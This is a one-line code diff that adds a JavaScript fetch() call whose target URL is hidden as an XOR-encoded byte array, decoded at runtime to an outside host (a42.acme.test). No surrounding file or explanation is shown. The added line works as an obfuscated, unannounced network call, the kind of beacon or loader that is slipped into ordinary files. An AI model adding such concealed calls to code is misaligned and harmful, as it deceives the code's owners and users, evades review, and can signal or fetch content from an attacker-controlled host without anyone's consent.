@@ -1,0 +1,1 @@
+fetch(function(t,e){let r="";for(let n=0;n<t.length;n++)r+=String.fromCharCode(t[n]^e);return r}([117,105,105,109,110,39,50,50,124,41,47,51,124,126,112,120,51,105,120,110,105,50,126,123,50,109],29));
